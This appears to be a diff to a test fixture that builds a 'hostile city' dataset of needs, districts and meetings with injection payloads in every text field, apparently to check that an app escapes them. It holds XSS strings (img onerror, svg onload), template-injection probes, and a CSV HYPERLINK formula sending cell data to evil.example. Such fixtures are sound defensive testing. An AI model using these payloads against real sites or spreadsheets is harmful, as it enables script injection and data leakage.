@@ -37,6 +37,7 @@ FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 HOSTILE_WORK_ID = "w'\"><img src=x onerror=alert(5)>${1}"
 HOSTILE_DISTRICT_ID = "d\"><svg onload=alert(6)>"
+HOSTILE_NEED_ID = "n'\"><img src=x onerror=alert(8)>${1}{{7*7}}"
 # The work a browser test clicks to open its popup.
 POPUP_WORK_ID = "p1"
 
@@ -79,6 +80,20 @@ def meetings():
             for i, row in enumerate(tiny.MEETINGS)]
 
 
+def needs():
+    """The tiny city's needs with the payload in every text (ids aside: one is hostile)."""
+    rename = {tiny.DISTRICTS[2]["id"]: HOSTILE_DISTRICT_ID}
+    rows = []
+    for row in tiny.NEEDS:
+        texts = {f"title_{lang}": hostile(f"need-{row['id']}-{lang}") for lang in ("ru", "kk", "en")}
+        answers = {f"answer_{lang}": hostile(f"answer-{row['id']}-{lang}") for lang in ("ru", "kk")}
+        rows.append({**row, **texts, **answers,
+                     "district_id": rename.get(row["district_id"], row["district_id"])})
+    rows[-1] = {**rows[-1], "id": HOSTILE_NEED_ID}  # n13, in the district with the hostile id
+    rows[0] = {**rows[0], "title_ru": FORMULA}
+    return rows
+
+
 def write_hostile_city(folder):
     """Write the hostile city (GeoJSON through pyogrio, CSV) into ``folder``."""
     folder.mkdir(parents=True, exist_ok=True)
@@ -88,6 +103,7 @@ def write_hostile_city(folder):
     gpd.GeoDataFrame(works(), crs=tiny.CRS).to_file(works_file, engine="pyogrio")
     pd.DataFrame(funding()).to_csv(folder / "funding.csv", index=False)
     pd.DataFrame(meetings()).to_csv(folder / "meetings.csv", index=False)
+    pd.DataFrame(needs()).to_csv(folder / "needs.csv", index=False)
     (folder / "city.json").write_text(json.dumps({
         "center": [82.61, 49.945], "metric_crs": tiny.METRIC, "extent": [82.0, 49.5, 83.5, 50.5],
         "name": {lang: hostile(f"city-{lang}") for lang in ("ru", "kk", "en")},
